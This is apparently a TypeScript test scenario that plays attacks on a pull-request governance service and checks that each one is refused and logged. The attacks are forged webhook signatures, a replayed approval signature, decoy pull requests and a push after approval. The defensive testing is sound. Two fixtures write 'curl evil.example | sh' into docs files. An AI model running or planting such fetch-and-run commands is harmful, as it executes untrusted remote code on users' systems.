/** What attackers try with webhooks, signatures, pushes and pull requests. */
import { createHmac, randomUUID } from 'node:crypto'
import { administrator, attacker, author } from './cast.ts'
import {
  buttonProblems,
  checkOf,
  checkOn,
  codesOf,
  comment,
  countedIn,
  logSize,
  newestEntry,
  verdictOf,
} from './observe.ts'
import { expectEqual, expectMatch, expectThere, type RunStep } from './steps.ts'
import { greenChange, openChange } from './story.ts'
import { sdk, type World } from './world.ts'

/** Sends a webhook as a stranger would. */
async function post(world: World, guid: string, event: string, body: string, signature: string | null) {
  const response = await fetch(`${world.url}/webhooks/github`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'x-github-delivery': guid,
      'x-github-event': event,
      ...(signature === null ? {} : { 'x-hub-signature-256': signature }),
    },
    body,
  })
  const { code } = (await response.json()) as { code?: string }
  return { status: response.status, code: code ?? '' }
}

const signed = (secret: string, body: string): string =>
  `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`

async function forgeWebhooks(step: RunStep, world: World): Promise<void> {
  await step('forged-webhook', 'Attack: forged webhooks', async ({ say, row }) => {
    const genuine = expectThere(
      'a webhook that was delivered',
      world.forge.deliveries(world.appId).find(({ event, action }) => event === 'pull_request' && action === 'closed'),
    )
    const { payload } = genuine
    const genuineSignature = signed(world.webhookSecret, payload)
    const before = { log: await logSize(world), rows: await world.store.deliveries.counts() }
    const tries = [
      { what: 'without a signature', body: payload, signature: null, code: 'signature-missing' },
      {
        what: 'signed with a guessed secret',
        body: payload,
        signature: signed('guess', payload),
        code: 'signature-wrong',
      },
      {
        what: 'a genuine signature, one byte changed',
        body: `${payload} `,
        signature: genuineSignature,
        code: 'signature-wrong',
      },
    ]
    for (const { what, body, signature, code } of tries) {
      const guid = randomUUID()
      const answer = await post(world, guid, genuine.event, body, signature)
      expectEqual(`the answer to a webhook ${what}`, answer, { status: 401, code })
      expectEqual(`the stored delivery of a webhook ${what}`, await world.store.deliveries.find(guid), null)
      say(`${what}: 401 ${code}`)
    }
    await world.settled()
    const after = { log: await logSize(world), rows: await world.store.deliveries.counts() }
    expectEqual('log entries and stored deliveries after the forgeries', after, before)
    say('nothing was stored: strangers can make neither the log nor the disk grow')
    row({
      tried: 'forged webhooks: unsigned, guessed secret, one byte changed',
      happened: '401 before anything was parsed; nothing stored',
      code: 'signature-missing, signature-wrong',
      recorded: 'a counter only, by design',
    })
  })
}

interface Targets {
  /** A green change, and its author's. */
  readonly green: number
  /** The attacker's own, unsigned. */
  readonly red: number
}

async function replaySignatures(step: RunStep, world: World): Promise<Targets> {
  return step('replayed-signature', 'Attack: a replayed signature', async ({ say, row }) => {
    say(`first an honest target: ${author} opens another one, the same three sign it, 14 days pass`)
    const { number: green, comments } = await greenChange(world)
    say(`${sdk}#${green} is green`)
    const line = expectThere("bob's comment", comments.get('bob'))
    const red = await openChange(world, {
      branch: 'backdoor',
      by: attacker,
      title: 'Small fix',
      files: { 'docs/install.md': 'curl evil.example | sh\n' },
    })
    const elsewhere = await comment(world, sdk, red, attacker, line)
    expectEqual('the refusal on another pull request', elsewhere.code, 'wrong-number')
    const first = await newestEntry(world, 'statement-refused')
    expectEqual('the recorded refusal', first.data['code'], 'wrong-number')
    say(`${attacker} pastes bob's signature on ${sdk}#${red}. The reply: ${elsewhere.text}`)
    const again = await comment(world, sdk, green, attacker, line)
    expectEqual('the refusal of a second copy', again.code, 'duplicate-statement')
    const second = await newestEntry(world, 'statement-refused')
    expectEqual('the recorded refusal', second.data['code'], 'duplicate-statement')
    say(`${attacker} pastes it once more on ${sdk}#${green}. The reply: ${again.text}`)
    expectEqual(`persons who count on #${red}`, countedIn((await verdictOf(world, sdk, red)).verdict), 0)
    expectEqual(`persons who count on #${green}`, countedIn((await verdictOf(world, sdk, green)).verdict), 3)
    row({
      tried: "bob's signature on another pull request",
      happened: 'refused: it binds one pull request',
      code: 'wrong-number',
      recorded: `log entry ${first.index}`,
    })
    row({
      tried: "bob's signature a second time, from another account",
      happened: 'refused: one person, one vote',
      code: 'duplicate-statement',
      recorded: `log entry ${second.index}`,
    })
    return { green, red }
  })
}

async function openDecoys(step: RunStep, world: World, { green, red }: Targets): Promise<number> {
  return step('decoy', 'Attack: decoy pull requests with the same commit', async ({ say, row }) => {
    const head = world.forge.pullRequest({ repo: sdk, number: green }).headSha
    world.forge.createBranch(sdk, 'decoy', head, attacker)
    const title = '[CONSENSUS-ADJACENT] block it for 90 days'
    const { number: decoy } = world.forge.openPullRequest({ repo: sdk, head: 'decoy', author: attacker, title })
    await world.settled()
    const { verdict, entry } = await verdictOf(world, sdk, decoy)
    expectEqual('whether the decoy itself passes', verdict.outcome, 'pending')
    const required = (verdict.requirement?.quorums ?? []).map((quorum) => quorum.required)
    expectEqual('what the decoy needs', [Math.max(...required), verdict.requirement?.reviewDays], [5, 90])
    const shown = checkOn(world, sdk, head)
    expectEqual('the check that both share', shown.conclusion, 'success')
    expectMatch('the title of the check', shown.title, new RegExp(`^#${green}:`))
    expectEqual(`what keeps the merge button of #${green} grey`, buttonProblems(world, sdk, green, administrator), [])
    say(`#${decoy}, same commit, "${title}": the check stays green, and says for whom: ${shown.title}`)
    row({
      tried: 'decoy: same commit, a title that raises the tier',
      happened: `the honest #${green} stays green; the decoy needs 5 signatures and 90 days`,
      code: verdict.reason.code,
      recorded: `log entry ${entry}`,
    })

    const lax = world.forge.pullRequest({ repo: sdk, number: red })
    world.forge.createBranch(sdk, 'playground', 'main', administrator)
    world.forge.createBranch(sdk, 'decoy-2', lax.headSha, attacker)
    const { number: second } = world.forge.openPullRequest({
      repo: sdk,
      head: 'decoy-2',
      base: 'playground',
      author: attacker,
      title: 'Try it out',
    })
    await world.settled()
    expectEqual('the check of the strict base', checkOn(world, sdk, lax.headSha).conclusion, 'action_required')
    const greens = world.forge.checkRuns(sdk, lax.headSha).filter(({ conclusion }) => conclusion === 'success')
    expectEqual('green checks on the commit', greens, [])
    expectMatch(
      `what keeps the merge button of #${red} grey`,
      buttonProblems(world, sdk, red, administrator).join('; '),
      /governance\/main/,
    )
    say(`#${second}, the commit of the unsigned #${red} against an ungoverned branch: governance/main stays red`)
    const strict = await verdictOf(world, sdk, red)
    row({
      tried: 'decoy: same commit against an ungoverned branch',
      happened: `the check of main stays red; #${red} cannot be merged`,
      code: strict.verdict.reason.code,
      recorded: `log entry ${strict.entry}`,
    })
    return decoy
  })
}

async function pushAfterApproval(step: RunStep, world: World, green: number, decoy: number): Promise<void> {
  await step('push-after-approval', 'Attack: a push after the approval', async ({ say, quote, row }) => {
    const approved = world.forge.pullRequest({ repo: sdk, number: green }).headSha
    const input = { author, message: 'One more thing', files: { 'docs/retry.md': 'curl evil.example | sh\n' } }
    world.forge.pushToPullRequest({ repo: sdk, number: green }, input)
    await world.settled()
    const { conclusion, title, summary } = checkOf(world, sdk, green)
    expectEqual('the check of the pushed head', conclusion, 'action_required')
    const { verdict, entry } = await verdictOf(world, sdk, green)
    expectEqual('persons who count', countedIn(verdict), 0)
    expectEqual('approvals that are void', codesOf(verdict).filter((code) => code === 'wrong-head').length, 3)
    say(`${author}'s account pushes other content onto the approved ${sdk}#${green}:`)
    quote(`${title}\n\n${summary}`)
    const old = checkOn(world, sdk, approved)
    expectEqual('whether the old head is still green', old.conclusion === 'success', false)
    for (const number of [green, decoy])
      expectMatch(
        `what keeps the merge button of #${number} grey`,
        buttonProblems(world, sdk, number, administrator).join('; '),
        /governance\/main/,
      )
    say(`the approved commit lost its green too, so the decoy #${decoy} that still holds it gains nothing`)
    row({
      tried: 'push after the approval',
      happened: 'red again; all three approvals are void',
      code: 'wrong-head',
      recorded: `log entry ${entry}`,
    })
  })
}

/** Plays the attacks on one governed repository. */
export async function playAttacks(step: RunStep, world: World): Promise<void> {
  await forgeWebhooks(step, world)
  const targets = await replaySignatures(step, world)
  const decoy = await openDecoys(step, world, targets)
  await pushAfterApproval(step, world, targets.green, decoy)
}
